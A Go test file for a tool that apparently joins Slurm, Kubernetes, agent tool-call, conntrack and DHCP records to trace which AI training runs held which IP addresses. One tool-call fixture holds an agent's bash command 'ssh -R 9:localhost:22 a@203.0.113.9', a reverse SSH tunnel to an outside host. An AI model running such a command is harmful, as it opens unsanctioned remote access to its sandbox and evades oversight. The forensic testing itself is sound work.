package runs

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"firetrail"

	"github.com/google/go-cmp/cmp"
)

// show prints an inventory in short lines for comparison.
func show(inv firetrail.Inventory) []string {
	var out []string
	for _, r := range inv.Runs {
		out = append(out, fmt.Sprintf("run %s name=%s family=%s agentic=%v %s..%s aliases=%s", r.ID, r.Name, r.Family, r.Agentic, short(r.Start), short(r.End), strings.Join(r.Aliases, ",")))
		for _, l := range r.Leases {
			out = append(out, fmt.Sprintf("  %s %s %s %s..%s ±%d/%d shared=%v q=%g %s:%d", l.IP, l.Subject, l.Name, short(l.Start), short(l.End), l.StartUnc/1e9, l.EndUnc/1e9, l.Shared, l.Quality, l.Source, l.Line))
		}
	}
	for _, l := range inv.Hosts {
		out = append(out, fmt.Sprintf("host %s %s %s..%s", l.IP, l.Name, short(l.Start), short(l.End)))
	}
	for _, c := range inv.Calls {
		out = append(out, fmt.Sprintf("call %s run=%s ip=%s %s..%s %s %q", c.ID, c.Run, firetrail.AddrText(c.IP), short(c.Start), short(c.End), c.Tool, c.Args))
	}
	for _, n := range inv.NAT {
		out = append(out, fmt.Sprintf("nat %s %s:%d -> %s:%d to %s:%d %s..%s", n.Proto, n.InsideIP, n.InsidePort, n.OutsideIP, n.OutsidePort, n.DstIP, n.DstPort, short(n.Start), short(n.End)))
	}
	return append(out, inv.Notes...)
}

func short(t int64) string {
	if t == firetrail.Absent {
		return "?"
	}
	return time.Unix(0, t).UTC().Format("0102T150405")
}

func read(t *testing.T, s *Statements, name, text string, opt Options) {
	t.Helper()
	if _, err := s.Read(name, strings.NewReader(text), opt); err != nil {
		t.Fatal(err)
	}
}

const sacctText = `JobID|JobIDRaw|JobName|User|Start|End|State|NodeList
412391|412391|rl-shell|kim|2026-03-01T08:00:00|2026-03-01T12:00:00|COMPLETED|gpu[01-02]
412391.batch|412391.batch|batch||2026-03-01T08:00:00|2026-03-01T12:00:40|COMPLETED|gpu01
412391.0|412391.0|python||2026-03-01T08:00:05|2026-03-01T11:59:00|COMPLETED|gpu[01-02]
412400_7|412407|sweep|lee|2026-03-01T12:00:03|Unknown|RUNNING|gpu01
412500|412500|pending|lee|Unknown|Unknown|PENDING|None assigned
`

const hostsText = "# nodes\n10.20.3.1 gpu01.lab.example gpu01\n10.20.3.2 gpu02.lab.example gpu02\n"

func TestSlurmJoinsNodesAndTable(t *testing.T) {
	var s Statements
	zone, _ := time.LoadLocation("Etc/GMT-1")
	read(t, &s, "sacct.txt", sacctText, Options{Zone: zone})
	read(t, &s, "hosts", hostsText, Options{})
	read(t, &s, "runs.csv", "run_id,name,family,job_id,team\nr-017,shell 17,rl-shell,412391,alpha\n", Options{})
	got := show(Join(&s))
	want := []string{
		"run r-017 name=shell 17 family=rl-shell agentic=false 0301T070000..0301T110000 aliases=412391,shell 17,slurm:412391",
		"  10.20.3.1 job gpu01 0301T070000..0301T110000 ±1/40 shared=false q=1 sacct.txt:2",
		"  10.20.3.2 job gpu02 0301T070000..0301T110000 ±1/40 shared=false q=1 sacct.txt:2",
		"run slurm:412400_7 name=sweep family= agentic=false 0301T110003..? aliases=412400_7,412407,slurm:412407",
		"  10.20.3.1 job gpu01 0301T110003..? ±1/1 shared=false q=1 sacct.txt:5",
		"run slurm:412500 name=pending family= agentic=false ?..? aliases=412500",
		"host 10.20.3.1 gpu01 ?..?",
		"host 10.20.3.1 gpu01.lab.example ?..?",
		"host 10.20.3.2 gpu02 ?..?",
		"host 10.20.3.2 gpu02.lab.example ?..?",
	}
	slices.Sort(want[6:])
	slices.Sort(got[6:])
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
}

const podText = `{"kind":"List","items":[
{"kind":"Pod","metadata":{"name":"rl-9-0","namespace":"train","uid":"u1","labels":{"batch.kubernetes.io/job-name":"rl-9"},"creationTimestamp":"2026-03-01T08:00:00Z"},
 "spec":{"nodeName":"gpu01"},"status":{"phase":"Succeeded","hostIP":"10.20.3.1","podIP":"10.244.1.5","startTime":"2026-03-01T08:00:02Z",
 "containerStatuses":[{"state":{"terminated":{"startedAt":"2026-03-01T08:00:12Z","finishedAt":"2026-03-01T09:00:00Z"}}}]}},
{"kind":"Pod","metadata":{"name":"web-7c9-x","namespace":"infra","uid":"u2","ownerReferences":[{"kind":"ReplicaSet","name":"web-7c9"}]},
 "spec":{"nodeName":"gpu01","hostNetwork":true},"status":{"phase":"Running","hostIP":"10.20.3.1","podIP":"10.20.3.1","startTime":"2026-03-01T01:00:00Z",
 "containerStatuses":[{"state":{"running":{"startedAt":"2026-03-01T01:00:01Z"}}}]}},
{"kind":"Pod","metadata":{"name":"cni-x","namespace":"kube-system","uid":"u3","ownerReferences":[{"kind":"DaemonSet","name":"cni"}]},
 "spec":{"nodeName":"gpu01"},"status":{"phase":"Running","hostIP":"10.20.3.1","podIP":"10.244.1.2","startTime":"2026-03-01T01:00:00Z"}}
]}
`

func TestPodsOfSeveralSnapshots(t *testing.T) {
	earlier := strings.Replace(podText, `"phase":"Succeeded"`, `"phase":"Running"`, 1)
	earlier = strings.Replace(earlier, `"terminated":{"startedAt":"2026-03-01T08:00:12Z","finishedAt":"2026-03-01T09:00:00Z"}`, `"running":{"startedAt":"2026-03-01T08:00:12Z"}`, 1)
	var s Statements
	read(t, &s, "pods.json", earlier+podText, Options{})
	got := show(Join(&s))
	want := []string{
		"run k8s:infra/web name= family= agentic=false 0301T010000..? aliases=k8s:infra/web-7c9-x,web,web-7c9-x",
		"  10.20.3.1 pod infra/web-7c9-x 0301T010000..? ±2/1 shared=true q=0.5 pods.json:5",
		"run k8s:train/rl-9 name= family= agentic=false 0301T080002..0301T090000 aliases=k8s:train/rl-9-0,rl-9,rl-9-0",
		"  10.20.3.1 pod train/rl-9-0 0301T080002..0301T090000 ±11/1 shared=true q=0.3 pods.json:2",
		"  10.244.1.5 pod train/rl-9-0 0301T080002..0301T090000 ±11/1 shared=false q=1 pods.json:2",
		"host 10.244.1.2 kube-system/cni-x 0301T010000..?",
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
}

func TestToolCallsNameRunsAndSandboxes(t *testing.T) {
	var s Statements
	read(t, &s, "calls.jsonl", `{"run_id":"r-1","ip":"10.1.0.5","start":"2026-03-01T02:14:05Z","end":"2026-03-01T02:14:09Z","tool":"bash","args":"ssh -R 9:localhost:22 a@203.0.113.9"}
{"run_id":"r-1","sandbox_id":"sb-1","start":1772331300.5,"tool":"bash","args":{"command":"id"}}
not json
{"tool":"bash","start":"2026-03-01T02:14:05Z"}
`, Options{})
	read(t, &s, "spans.json", `{"resourceSpans":[{"resource":{"attributes":[{"key":"training.run_id","value":{"stringValue":"r-2"}}]},
"scopeSpans":[{"spans":[{"spanId":"ab","name":"execute_tool bash","startTimeUnixNano":"1772331300000000000","endTimeUnixNano":"1772331301000000000",
"attributes":[{"key":"gen_ai.tool.call.arguments","value":{"stringValue":"{\"cmd\":\"id\"}"}}]},{"name":"chat"}]}]}]}`, Options{})
	got := show(Join(&s))
	want := []string{
		"run r-1 name= family= agentic=true 0301T021405..? aliases=",
		"  10.1.0.5 sandbox  0301T021405..0301T021409 ±60/60 shared=false q=0.8 calls.jsonl:1",
		"run r-2 name= family= agentic=true 0301T021500..? aliases=",
		`call ab run=r-2 ip= 0301T021500..0301T021501 bash "{\"cmd\":\"id\"}"`,
		`call calls.jsonl:1 run=r-1 ip=10.1.0.5 0301T021405..0301T021409 bash "ssh -R 9:localhost:22 a@203.0.113.9"`,
		`call calls.jsonl:2 run=r-1 ip= 0301T021500..? bash "{\"command\":\"id\"}"`,
		"calls.jsonl:3: tool call not understood: invalid character 'o' in literal null (expecting 'u')",
		"calls.jsonl:4: tool call names neither run, host, address nor sandbox",
	}
	slices.Sort(got[3:])
	slices.Sort(want[3:])
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
}

func TestTablesOfThreeWritings(t *testing.T) {
	want := []string{
		"run r-1 name=one family=f agentic=false 0301T000000..0301T060000 aliases=one",
		"  10.0.0.1 run  0301T000000..0301T060000 ±1/1 shared=false q=1 t:2",
		"  10.0.0.2 run  0301T000000..0301T060000 ±1/1 shared=false q=1 t:2",
	}
	for name, text := range map[string]string{
		"csv":   "run_id,name,family,start,end,ips\nr-1,one,f,2026-03-01T00:00:00Z,2026-03-01T06:00:00Z,10.0.0.1 10.0.0.2\n",
		"json":  "[\n{\"run_id\":\"r-1\",\"name\":\"one\",\"family\":\"f\",\"start\":1772323200,\"end\":\"2026-03-01T06:00:00Z\",\"ips\":[\"10.0.0.1\",\"10.0.0.2\"]}]",
		"yaml":  "runs:\n- run_id: r-1\n  name: one\n  family: f\n  start: 2026-03-01T00:00:00Z\n  end: 2026-03-01T06:00:00Z\n  ips: [10.0.0.1, 10.0.0.2]\n",
		"jsonl": "\n{\"run_id\":\"r-1\",\"name\":\"one\",\"family\":\"f\",\"start\":1772323200000,\"end\":\"2026-03-01T06:00:00Z\",\"ips\":\"10.0.0.1,10.0.0.2\"}\n",
	} {
		var s Statements
		read(t, &s, "t", text, Options{})
		if d := cmp.Diff(want, show(Join(&s))); d != "" {
			t.Errorf("%s: %s", name, d)
		}
	}
}

func TestConntrackAndDHCP(t *testing.T) {
	var s Statements
	read(t, &s, "nat.txt", `[1772331300.250000]	    [NEW] tcp      6 120 SYN_SENT src=10.1.0.5 dst=198.51.100.7 sport=5646 dport=443 [UNREPLIED] src=198.51.100.7 dst=203.0.113.1 sport=443 dport=61022
[1772331360.000000]	[DESTROY] tcp      6 src=10.1.0.5 dst=198.51.100.7 sport=5646 dport=443 [UNREPLIED] src=198.51.100.7 dst=203.0.113.1 sport=443 dport=61022
`, Options{})
	read(t, &s, "dhcpd.leases", `lease 10.9.0.4 {
  starts 0 2026/03/01 08:00:00;
  ends 0 2026/03/01 20:00:00;
  hardware ethernet 00:00:5e:00:53:01;
  client-hostname "bench4";
}
`, Options{})
	want := []string{
		"host 10.9.0.4 bench4 0301T080000..0301T200000",
		"nat tcp 10.1.0.5:5646 -> 203.0.113.1:61022 to 198.51.100.7:443 0301T021500..0301T021600",
	}
	if d := cmp.Diff(want, show(Join(&s))); d != "" {
		t.Error(d)
	}
}

func TestOrderOfFilesDoesNotMatter(t *testing.T) {
	files := map[string]string{"sacct.txt": sacctText, "hosts": hostsText, "pods.json": podText,
		"runs.csv": "run_id,job_id\nr-017,412391\nr-018,\n", "calls.jsonl": `{"run_id":"412391","ip":"10.20.3.1","start":"2026-03-01T09:00:00Z","tool":"bash","args":"id"}`}
	names := []string{"sacct.txt", "hosts", "pods.json", "runs.csv", "calls.jsonl"}
	var first []string
	for range 2 {
		var s Statements
		for _, n := range names {
			read(t, &s, n, files[n], Options{Zone: time.UTC})
		}
		got := show(Join(&s))
		if first == nil {
			first = got
		} else if d := cmp.Diff(first, got); d != "" {
			t.Error(d)
		}
		slices.Reverse(names)
	}
	if !slices.ContainsFunc(first, func(l string) bool { return strings.HasPrefix(l, "call calls.jsonl:1 run=r-017") }) {
		t.Errorf("the alias 412391 was not resolved: %q", first)
	}
}

func TestExpandNodes(t *testing.T) {
	for list, want := range map[string]string{
		"tux[1-3]":                   "tux1 tux2 tux3",
		"node[0201-0203,0272]":       "node0201 node0202 node0203 node0272",
		"node[1-2],node[9]":          "node1 node2 node9",
		"rack[1-2]n[01-02]":          "rack1n01 rack1n02 rack2n01 rack2n02",
		"a,b-c":                      "a b-c",
		"":                           "",
		"node[1433,1889-1890]-ib[0]": "node1433-ib0 node1889-ib0 node1890-ib0",
	} {
		got, err := expandNodes(list)
		if err != nil || strings.Join(got, " ") != want {
			t.Errorf("%q: %v %v", list, got, err)
		}
	}
	for _, bad := range []string{"n[1", "n1]", "n[5-1]", "n[1-999999999]", "n[a-b]"} {
		if got, err := expandNodes(bad); err == nil {
			t.Errorf("%q: %v", bad, got)
		}
	}
}

func FuzzRead(f *testing.F) {
	for _, s := range []string{sacctText, hostsText, podText, "run_id\nx\n", `{"run_id":"a","tool":"b"}`, "lease 10.0.0.1 {\n starts 0 2026/03/01 08:00:00;", "JobId=1 JobName=x\n", "NodeName=a NodeAddr=10.0.0.1"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		var s Statements
		if _, err := s.Read("f", strings.NewReader(text), Options{}); err != nil {
			return
		}
		inv := Join(&s)
		for _, r := range inv.Runs {
			for _, l := range r.Leases {
				if !l.IP.IsValid() || l.Run != r.ID {
					t.Fatalf("bad lease %+v", l)
				}
			}
		}
	})
}

// corpora is the folder of real inventories, or skips.
func corpora(t *testing.T) string {
	dir := os.Getenv("FIRETRAIL_CORPORA")
	if dir == "" {
		t.Skip("FIRETRAIL_CORPORA is not set: real inventories are not tested")
	}
	return filepath.Join(dir, "runs")
}

func TestCorpora(t *testing.T) {
	dir := corpora(t)
	for _, c := range []struct {
		file, kind  string
		jobs, calls int
	}{
		{"slurm-gcm/sample-sacct-output-midnight-edge-case.txt", "sacct", 306, 0},
		{"slurm-gcm/sample-sacct-one-multiline.txt", "sacct", 3, 0},
		{"slurm-gcm/sample-sacct-fake-line-break.txt", "sacct", 1, 0},
		{"slurm-gcm/sample-sacct-multiple-multiline.txt", "sacct", 1, 0},
		{"slurm-gcm/scontrol_out_multi_node.txt", "scontrol-job", 1, 0},
		{"inspect/2025-05-12T20-27-36-04-00_browser.trimmed.json", "inspect", 1, 14},
		{"inspect/2024-11-05T13-32-37-05-00_input-task.eval", "inspect", 0, 0},
	} {
		data, err := os.ReadFile(filepath.Join(dir, c.file))
		if err != nil {
			t.Fatal(err)
		}
		var s Statements
		kind, err := s.Read(c.file, strings.NewReader(string(data)), Options{})
		if err != nil || kind != c.kind {
			t.Errorf("%s: kind %q, %v", c.file, kind, err)
			continue
		}
		inv := Join(&s)
		if len(inv.Runs) < c.jobs || len(inv.Calls) < c.calls {
			t.Errorf("%s: %d runs, %d calls", c.file, len(inv.Runs), len(inv.Calls))
		}
		t.Logf("%s: %s, %d runs, %d calls, %d notes", c.file, kind, len(inv.Runs), len(inv.Calls), len(inv.Notes))
	}
}
